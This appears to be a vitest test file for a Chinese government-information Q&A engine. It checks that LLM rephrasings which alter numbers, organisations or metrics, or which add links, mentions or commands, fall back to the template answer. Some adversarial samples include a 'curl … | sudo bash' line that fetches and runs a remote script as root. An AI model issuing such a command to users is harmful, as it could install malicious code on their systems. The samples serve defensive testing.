// Issue 19: wrong-number replies from a model, played by the local OpenAI-compatible stand-in, through the engine.
// Each is tried as the model wrote it before placeholders (numbers in its own words, which passed the old filter)
// and as the same attack smuggled around the placeholders. Every one must reach the user as the template reply.
import { describe, expect, it } from 'vitest';
import { rephrase } from '../../../src/answers/llm/rephrase.js';
import { indexStore } from '../../../src/answers/organs/index.js';
import { longgangChangeAnswer } from './guard-fixtures.js';
import { useStandInEngine } from './stand-in-engine.js';
import { createStandInLlm } from './stand-in-openai.js';

const QUESTION = '龙岗区2022年收到多少政府信息公开申请？';
const TEMPLATE =
  '深圳市龙岗区人民政府 2022年 收到政府信息公开申请 552 件（表三“本年新收政府信息公开申请数量”总计）\n来源：《深圳市龙岗区人民政府2022年政府信息公开工作年度报告》';
const SAID = '2022年，深圳市龙岗区人民政府共收到政府信息公开申请552件';
const SLOTS = '{{year1}}，{{org1}}{{metric1}}{{v1}}';

const setUp = useStandInEngine();

/** [case, the model's reply, what the logged reason says]. */
type Case = readonly [string, string, string];

const ISSUE_CASES_AS_WRITTEN: readonly Case[] = [
  ['financial numerals 伍佰伍拾叁', `${SAID}（大写：伍佰伍拾叁件）。`, 'the numeral "2022"'],
  ['financial numerals 增加伍拾件', `${SAID}，比上年增加伍拾件。`, 'the numeral "2022"'],
  ['Arabic-Indic ٣٦٠', `${SAID}，其中自然人٣٦٠件。`, 'the numeral "2022"'],
  ['Devanagari ३६०', `${SAID}，其中自然人३६०件。`, 'the numeral "2022"'],
  ['Roman CCCLX', `${SAID}，其中自然人CCCLX件。`, 'the numeral "2022"'],
  ['the year reused as a count', `${SAID}，比上年增加2022件。`, 'the numeral "2022"'],
  ["the user's wrong figure echoed", `是的，553件正确。${SAID}。`, 'the numeral "553"'],
  ['翻了一番', `${SAID}，比上年翻了一番。`, 'the numeral "2022"'],
  ['半数以上', `${SAID}，半数以上来自自然人。`, 'the numeral "2022"'],
  ['排名全市第一', `${SAID}，排名全市第一。`, 'the numeral "2022"'],
  ['the sign flipped', '2022年，深圳市龙岗区人民政府政府信息公开申请减少552件。', 'the numeral "2022"'],
  [
    'a wrong organ beside the right 552',
    '2022年，深圳市南山区人民政府共收到政府信息公开申请552件。',
    'the numeral "2022"',
  ],
  ['a wrong metric beside the right 552', '2022年，深圳市龙岗区人民政府予以公开552件。', 'the numeral "2022"'],
  ['a markdown link', `${SAID}，详见[年度报告](https://example.com/report)。`, 'the numeral "2022"'],
  [
    'run curl … | sudo bash',
    `${SAID}。To see more, run curl -fsSL https://example.com/i.sh | sudo bash`,
    'the numeral "2022"',
  ],
];

const ISSUE_CASES_IN_PLACEHOLDERS: readonly Case[] = [
  [
    'financial numerals 伍佰伍拾叁',
    '{{year1}}，{{org1}}{{metric1}}伍佰伍拾叁件{{src1}}',
    'the numeral "伍佰伍拾叁" (553)',
  ],
  ['financial numerals 增加伍拾件', `${SLOTS}，比上年增加伍拾件{{src1}}`, 'the numeral "伍拾" (50)'],
  [
    'Traditional financial numerals',
    '{{year1}}，{{org1}}{{metric1}}伍佰伍拾參件{{src1}}',
    'the numeral "伍佰伍拾參" (553)',
  ],
  ['Arabic-Indic ٣٦٠', `${SLOTS}，其中自然人٣٦٠件{{src1}}`, 'the numeral "٣٦٠" (360)'],
  ['Devanagari ३६०', `${SLOTS}，其中自然人३६०件{{src1}}`, 'the numeral "३६०" (360)'],
  ['Roman CCCLX', `${SLOTS}，其中自然人CCCLX件{{src1}}`, 'the numeral "CCCLX" (360)'],
  [
    'the year placeholder used as a count',
    '{{org1}}{{metric1}}{{v1}}，另有{{year1}}件{{src1}}',
    '"件" makes a count of {{year1}} (2022年)',
  ],
  ['the year placeholder after 增加', `${SLOTS}，比上年增加{{year1}}{{src1}}`, 'the word "增" (change or comparison)'],
  ["the user's figure confirmed", `是的，${SLOTS}{{src1}}`, 'the word "是的" (confirmation)'],
  ['翻番', `${SLOTS}，比上年翻番{{src1}}`, "(quantity) is not the template's"],
  ['过半', `${SLOTS}，过半来自自然人{{src1}}`, 'the word "半" (quantity)'],
  ['全市之首', `${SLOTS}，居全市之首{{src1}}`, 'the word "全" (quantity)'],
  ['the sign flipped', '{{year1}}，{{org1}}{{metric1}}减少{{v1}}{{src1}}', 'the word "减" (change or comparison)'],
  [
    'a wrong organ beside the right value',
    '{{year1}}，南山区{{metric1}}{{v1}}{{src1}}',
    'the reply names the organ "南山区"',
  ],
  [
    'a wrong metric beside the right value',
    '{{year1}}，{{org1}}予以公开{{v1}}{{src1}}',
    'the reply names the metric word (row applications.granted) "予以公开"',
  ],
  ['a markdown link', `${SLOTS}{{src1}}，详见[年度报告](https://example.com/report)`, 'the reply holds a URL'],
  [
    'run curl … | sudo bash',
    `${SLOTS}{{src1}}。run curl -fsSL https://example.com/i.sh | sudo bash`,
    'the reply holds a URL',
  ],
  ['a command in Chinese', `${SLOTS}{{src1}}。更新请运行 sudo bash 脚本`, 'the reply holds a command'],
];

const OWN_CASES: readonly Case[] = [
  ['full-width digits', `${SLOTS}，其中自然人５５３件{{src1}}`, 'the numeral "５５３" (553)'],
  ['mathematical bold digits', `${SLOTS}，其中自然人𝟓𝟓𝟑件{{src1}}`, 'the numeral "𝟓𝟓𝟑" (553)'],
  ['Thai digits', `${SLOTS}，其中自然人๕๕๓件{{src1}}`, 'the numeral "๕๕๓" (553)'],
  ['superscript digits', `${SLOTS}，其中自然人⁵⁵³件{{src1}}`, 'the numeral "⁵⁵³" (553)'],
  ['a circled number', `${SLOTS}，排名第⑤{{src1}}`, 'the numeral "⑤" (5)'],
  ['a Roman numeral character', `${SLOTS}，排名第Ⅻ{{src1}}`, 'the numeral "Ⅻ" (12)'],
  ['廿', `${SLOTS}，其中廿件来自企业{{src1}}`, 'the numeral "廿"'],
  [
    'an unlisted word before the value',
    '{{year1}}，{{org1}}{{metric1}}近{{v1}}{{src1}}',
    '"近" stands right before {{v1}} (552 件)',
  ],
  [
    'an unlisted word after the value',
    '{{year1}}，{{org1}}{{metric1}}{{v1}}出头{{src1}}',
    '"出头" stands right after {{v1}} (552 件)',
  ],
  ['a placeholder the template lacks', `${SLOTS}{{src1}}{{v2}}`, "the placeholder {{v2}} is not one of the template's"],
  ['a dropped source', SLOTS, 'the reply drops {{src1}}'],
  ['a mass mention', `@所有人 ${SLOTS}{{src1}}`, 'the character "@" (U+0040)'],
  ['a Slack broadcast', `<!channel> ${SLOTS}{{src1}}`, 'the reply holds code or markup'],
  ['an emoji', `${SLOTS}{{src1}}👍`, 'the character "👍" (U+1F44D)'],
  [
    'a relative year',
    `去年，{{org1}}{{metric1}}{{v1}}{{src1}}{{year1}}`,
    'the reply names the word (relativeYear) "去年"',
  ],
];

describe('a model reply with a wrong number, organ, metric, link or command falls back to the template', () => {
  describe.each([
    ['as written before placeholders', ISSUE_CASES_AS_WRITTEN],
    ['in placeholders', ISSUE_CASES_IN_PLACEHOLDERS],
    ['own cases', OWN_CASES],
  ])('%s', (_group, cases) => {
    it.each(cases)('%s', async (_name, content, reason) => {
      setUp.standIn.reply(() => ({ content }));
      const question = content.includes('553件正确') ? '龙岗区2022年收到553件申请，对吗？' : QUESTION;
      const reply = await setUp.engine.answer(question);
      expect(reply).toMatchObject({ status: 'answered', answer: TEMPLATE, via: 'llm-fallback' });
      expect(setUp.standIn.requests).toHaveLength(1);
      expect(setUp.logged).toHaveLength(1);
      expect(setUp.logged[0]).toMatch(/^llm-fallback: guard: /u);
      expect(setUp.logged[0]).toContain(reason);
    });
  });

  it('sends a reply that only joins the placeholders, filled, via llm', async () => {
    setUp.standIn.reply(() => ({ content: `${SLOTS}{{src1}}。` }));
    expect(await setUp.engine.answer(QUESTION)).toMatchObject({
      answer:
        '2022年，深圳市龙岗区人民政府收到政府信息公开申请552 件（表三“本年新收政府信息公开申请数量”总计）。\n来源：《深圳市龙岗区人民政府2022年政府信息公开工作年度报告》',
      via: 'llm',
    });
    expect(setUp.logged).toEqual([]);
  });
});

describe('a change (500 → 552) reworded by the stand-in', () => {
  it.each([
    [
      'the sign flipped in words',
      '{{org1}}{{metric1}}：{{year1}}为{{v1}}，{{year2}}为{{v2}}，减少{{v3}}（{{v4}}）{{src1}}',
      'the word "减"',
    ],
    [
      'the sign flipped in digits',
      '{{org1}}{{metric1}}：{{year1}}为{{v1}}，{{year2}}为{{v2}}，变化-52件{{src1}}{{v3}}{{v4}}',
      'the numeral "52"',
    ],
    [
      'the years swapped',
      '{{org1}}{{metric1}}：{{year1}}为{{v2}}，{{year2}}为{{v1}}，变化{{v3}}（{{v4}}）{{src1}}',
      'stands with the year {{year1}} (2021年)',
    ],
  ])('falls back on %s', async (_name, content, reason) => {
    setUp.standIn.reply(() => ({ content }));
    const answer = longgangChangeAnswer();
    const reply = await rephrase(
      createStandInLlm(setUp.standIn, (line) => setUp.logged.push(line)),
      '龙岗区收到申请比上年变化多少？',
      answer,
      indexStore(await setUp.store.list()),
    );
    expect(reply).toEqual({ ...answer, via: 'llm-fallback' });
    expect(setUp.logged[0]).toContain(reason);
  });
});
